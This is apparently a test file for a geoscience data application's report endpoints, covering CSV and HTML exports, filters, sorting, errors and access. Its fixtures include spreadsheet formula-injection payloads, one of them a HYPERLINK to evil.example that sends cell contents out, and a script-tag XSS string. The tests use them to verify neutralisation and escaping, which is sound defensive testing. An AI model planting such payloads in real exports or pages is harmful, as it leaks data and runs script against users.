import { parse } from 'csv-parse/sync'
import { sql } from 'kysely'
import t from 'tap'
import { buildTestApp } from '../../../helpers/app.js'
import { as } from '../../../helpers/auth.js'
import { hierarchy, post } from '../../../helpers/hierarchy.js'

// List, ListCsv and ListAllCsv: contents, CSV safety, the list's filters and sort, columns, errors, access.

const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+1', '-1+1', '@SUM(A1:A9)', '\t=1', '\r=1', '-5']

t.test('exports of records', async t => {
  const { app } = await buildTestApp(t)
  const h = await hierarchy(app)
  const holeB = (await post(app, 'holes', { site_id: h.site })).id as number
  const cores = [
    { hole_id: h.hole, core_type: 'R', analyst: 'CK', top_depth: 0, drilled_length: 3, core_recovery: 3, temperature: -5.5, remarks: FORMULAS[0] },
    { hole_id: h.hole, core_type: 'H', top_depth: 3, remarks: FORMULAS[1], continuity: FORMULAS[5] },
    { hole_id: h.hole, core_type: 'X', top_depth: 6, remarks: FORMULAS[2], core_loss_reason: FORMULAS[6] },
    { hole_id: holeB, core_type: 'R', top_depth: 0, remarks: FORMULAS[3] },
    { hole_id: holeB, core_type: 'R', top_depth: 1, remarks: FORMULAS[4] },
    { hole_id: h.hole, core_type: 'R', top_depth: 9, remarks: '<script>alert(1)</script>', core_loss_reason: 'a, "quoted"\nsecond line' }
  ]
  for (const c of cores) await post(app, 'cores', c)
  const viewer = await as(app, 'viewer')
  const get = async (report: string, query: string, headers: Record<string, string> = viewer) =>
    await app.inject({ url: `/api/v1/report/${report}?${query}`, headers })
  const csv = async (report: string, query: string): Promise<string[][]> => {
    const response = await get(report, query)
    t.equal(response.statusCode, 200, `${report}?${query}`)
    return parse(response.body, { relax_column_count: true, skip_empty_lines: false })
  }
  const labels = app.registry.get('cores')!.definition.columns.map(c => c.label)
  const names = app.registry.get('cores')!.definition.columns.map(c => c.name)

  t.test('ListCsv: every column, labels as the header, one row per record', async t => {
    const response = await get('ListCsv', 'name=cores')
    t.equal(response.headers['content-type'], 'text/csv; charset=utf-8')
    t.equal(response.headers['content-disposition'], 'attachment; filename="cores.csv"')
    t.match(response.body, /^ID,Hole ID,Core,Combined ID,.*\r\n1,1,1,5065_1_A_1,CK,0,/, 'RFC 4180 line ends')
    const rows: string[][] = parse(response.body)
    t.same(rows[0], labels)
    t.equal(rows.length, 7)
    const record = (n: number) => Object.fromEntries(names.map((name, i) => [name, rows[n][i]]))
    t.same([record(1).combined_id, record(1).core_recovery_pc, record(1).temperature, record(1).bottom_depth], ['5065_1_A_1', '100', '-5.5', ''],
      'numbers as numbers (negative ones too), null as an empty cell')
    t.equal(record(1).igsn, 'ICDP5065EC10001')
    t.same(rows.slice(1).map(r => r[names.indexOf('combined_id')]), ['5065_1_A_1', '5065_1_A_2', '5065_1_A_3', '5065_1_B_1', '5065_1_B_2', '5065_1_A_4'], 'by id')
    t.equal(record(6).core_loss_reason, 'a, "quoted"\nsecond line', 'quoting keeps separators, quotes and line breaks')
    t.equal(record(6).remarks, '<script>alert(1)</script>', 'CSV is not HTML: no escaping')
  })

  t.test('ListCsv: cells a spreadsheet would run as formulas are neutralised', async t => {
    const rows: string[][] = parse((await get('ListCsv', 'name=cores&columns=remarks,continuity,core_loss_reason,temperature')).body)
    t.same(rows.slice(1, 6), [
      ["'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")", '', '', '-5.5'],
      ["'+1", "'\r=1", '', ''],
      ["'-1+1", '', "'-5", ''],
      ["'@SUM(A1:A9)", '', '', ''],
      ["'\t=1", '', '', '']
    ], 'text starting with = + - @ tab or CR gets a quote; the number -5.5 stays a number, the text "-5" does not')
  })

  t.test('filters, sort and columns as the list endpoint', async t => {
    const rows = await csv('ListCsv', `name=cores&filter[hole_id]=${holeB}&sort=-top_depth&columns=combined_id,top_depth,site_id,expedition_id,program_id`)
    t.same(rows, [['Combined ID', 'Top Depth', 'Site ID', 'Expedition ID', 'Program ID'],
      ['5065_1_B_2', '1', String(h.site), String(h.expedition), String(h.program)], ['5065_1_B_1', '0', String(h.site), String(h.expedition), String(h.program)]],
    'ancestor ids can be chosen; their labels are derived from the name')
    t.same(await csv('ListCsv', `name=cores&filter[remarks]=${encodeURIComponent('=sum')}&filter[top_depth]=${encodeURIComponent('>=0')}&columns= core , remarks `),
      [['Core', 'Remarks'], ['1', "'@SUM(A1:A9)"]], 'names are trimmed; contains is case-insensitive')
    t.same(await csv('ListCsv', `name=cores&filter[site_id]=${h.site}&sort=core,-hole_id&columns=combined_id`),
      [['Combined ID'], ['5065_1_B_1'], ['5065_1_A_1'], ['5065_1_B_2'], ['5065_1_A_2'], ['5065_1_A_3'], ['5065_1_A_4']])
    t.same(await csv('ListCsv', 'name=cores&filter[core_type]=Q&columns=id'), [['ID']], 'nothing matches: the header only')
    t.equal((await csv('ListCsv', 'name=cores&columns=')).length, 7, 'an empty choice is every column')
    t.same((await csv('ListCsv', 'name=cores&columns=id,id&sort=-id')).slice(0, 2), [['ID', 'ID'], ['6', '6']])
  })

  t.test('bad parameters are 400s that say what was wrong', async t => {
    const error = async (report: string, query: string) => {
      const response = await get(report, query)
      return [response.statusCode, response.json().message]
    }
    t.same(await error('ListCsv', 'name=cores&columns=core,top_dpeth'), [400, 'Unknown column "top_dpeth"; did you mean "top_depth"?'])
    t.same(await error('List', 'name=cores&columns=archive_files'), [400, 'Unknown column "archive_files".'])
    t.same(await error('ListCsv', 'name=cores&filter[depth]=1'), [400, 'Unknown filter field "depth".'])
    t.same(await error('ListCsv', 'name=cores&filter[top_depth]=deep'), [400, 'The filter on "top_depth" must be a number; got "deep".'])
    t.same(await error('ListAllCsv', 'name=cores&sort=nope'), [400, 'Unknown sort field "nope".'])
    t.equal((await error('List', 'name=cores&sort=id&sort=core'))[0], 400)
    t.same(await error('ListAllCsv', 'name=cores&columns=id'), [400, 'Report "ListAllCsv" shows every column; columns cannot be chosen.'])
    t.same(await error('ListCsv', 'name=nope'), [404, 'Model "nope" does not exist.'])
    t.equal((await error('List', ''))[0], 400, 'name is required')
    t.equal((await app.inject({ method: 'HEAD', url: '/api/v1/report/ListCsv?name=cores', headers: viewer })).statusCode, 404, 'no HEAD: it would read the whole export')
  })

  t.test('ListAllCsv: the template structure, a separator, then names and every record', async t => {
    const response = await get('ListAllCsv', `name=cores&filter[hole_id]=${holeB}`)
    t.equal(response.headers['content-disposition'], 'attachment; filename="cores_full.csv"')
    const rows: string[][] = parse(response.body, { relax_column_count: true })
    const columns = app.registry.get('cores')!.definition.columns
    t.same(rows.slice(0, 6), [['Module', 'Core'], ['Name', 'cores'], ['Table', 'cores'], ['ParentModel', 'holes'], [''],
      ['Name', 'Type', 'Size', 'Required', 'Primary', 'AutoIncrement', 'Label', 'Description', 'Validator', 'Unit', 'SelectList', 'Calculate', 'DefaultValue']])
    const definitions = rows.slice(6, 6 + columns.length)
    t.same(definitions.map(r => r[0]), names)
    const definition = (name: string) => definitions.find(r => r[0] === name)
    t.same(definition('id'), ['id', 'integer', '', '0', '1', '1', 'ID', '', '', '', '', '', ''])
    t.same(definition('core'), ['core', 'integer', '', '1', '0', '0', 'Core', 'Core number inside the hole; the next free number when not given', '>= 1', '', '', '', ''])
    t.same(definition('core_type'), ['core_type', 'string', '20', '1', '0', '0', 'Core Type', '', '', '', 'CORE_TYPE', '', ''])
    t.same(definition('core_recovery_pc'), ['core_recovery_pc', 'double', '', '0', '0', '0', 'Core Recovery %', '', '', '%', '', 'ROUND([core_recovery] / [drilled_length] * 100, 2)', '0'])
    t.same(definition('igsn')?.at(-1), 'C')
    t.same(rows.slice(6 + columns.length, 9 + columns.length), [[''], ['__________'], ['']])
    const data = rows.slice(9 + columns.length)
    t.same(data[0], names, 'the header is the column names')
    t.same(data.slice(1).map(r => [r[names.indexOf('combined_id')], r[names.indexOf('remarks')]]), [['5065_1_B_1', "'@SUM(A1:A9)"], ['5065_1_B_2', "'\t=1"]], 'filtered, neutralised')
    const programs: string[][] = parse((await get('ListAllCsv', 'name=programs')).body, { relax_column_count: true })
    t.same(programs.slice(0, 4), [['Module', 'Project'], ['Name', 'programs'], ['Table', 'programs'], ['ParentModel', '']])
    t.same(programs.at(-1), [String(h.program), 'ICDP', 'International Continental Drilling Program', ''])
  })

  t.test('List: an HTML table of the filtered records', async t => {
    const response = await get('List', `name=cores&filter[hole_id]=${h.hole}&sort=-top_depth&columns=combined_id,top_depth,remarks`)
    t.equal(response.headers['content-type'], 'text/html; charset=utf-8')
    t.match(response.headers['content-security-policy'], /default-src 'none'/)
    t.equal(response.headers['content-disposition'], undefined)
    const html = response.body
    t.match(html, '<title>List of records: cores</title>')
    t.match(html, '<thead><tr><th>Combined ID</th><th>Top Depth <span class="unit">[m]</span></th><th>Remarks</th></tr></thead>')
    const rows = [...html.matchAll(/<tr>(<td>.*?)<\/tr>/g)].map(([, r]) => [...r.matchAll(/<td>(.*?)<\/td>/g)].map(c => c[1]))
    t.same(rows, [
      ['5065_1_A_4', '9', '&lt;script&gt;alert(1)&lt;/script&gt;'],
      ['5065_1_A_3', '6', '-1+1'],
      ['5065_1_A_2', '3', '+1'],
      ['5065_1_A_1', '0', '=HYPERLINK(&quot;http://evil.example/?d=&quot;&amp;A1,&quot;Click&quot;)']
    ], 'escaped; HTML needs no formula guard')
    t.notMatch(html, '<script>')
    t.match(html, /<p class="count">4 records<\/p>\n<\/body>\n<\/html>\n$/)
    const all = (await get('List', 'name=holes')).body
    t.match(all, '<th>Drilling Method</th>')
    t.match(all, '<p class="count">2 records</p>')
    t.match((await get('List', 'name=cores&filter[core_type]=Q')).body, '<tbody>\n</tbody>\n</table>\n<p class="count">0 records</p>')
  })

  t.test('lists of values are exported in their stored form', async t => {
    await post(app, 'holes', { site_id: h.site, drilling_method: ['wireline', 'rotary'] })
    t.same((await csv('ListCsv', 'name=holes&columns=hole,drilling_method')).slice(1), [['A', ''], ['B', ''], ['C', 'wireline;rotary']])
    t.match((await get('List', 'name=holes&columns=drilling_method')).body, '<td>wireline; rotary</td>')
  })

  t.test('access as reads of the model', async t => {
    t.equal((await get('ListCsv', 'name=cores', {})).statusCode, 401)
    t.equal((await get('ListCsv', 'name=cores', await as(app, 'viewer', ['form-holes:view']))).statusCode, 403)
    t.equal((await get('ListAllCsv', 'name=cores', await as(app, 'viewer', ['form-cores:view']))).statusCode, 200)
    t.equal((await get('List', 'name=cores', await as(app, 'operator'))).statusCode, 200)
  })

  t.test('more records than one cursor batch, in order', async t => {
    const hole = (await post(app, 'holes', { site_id: h.site })).id as number
    await sql`insert into cores (hole_id, core, combined_id, core_type, top_depth, core_recovery_pc, core_catcher)
      select ${hole}, g, '5065_1_X_' || g, 'R', g * 1.5, 0, 0 from generate_series(1, 2500) g`.execute(app.database.db)
    const rows = await csv('ListCsv', `name=cores&filter[hole_id]=${hole}&columns=core,top_depth&sort=-core`)
    t.equal(rows.length, 2501)
    t.same([rows[1], rows[1000], rows[1001], rows[2500]], [['2500', '3750'], ['1501', '2251.5'], ['1500', '2250'], ['1', '1.5']])
    const page = (await get('List', `name=cores&filter[hole_id]=${hole}&columns=core`)).body
    t.match(page, '<p class="count">2500 records</p>')
  })
})
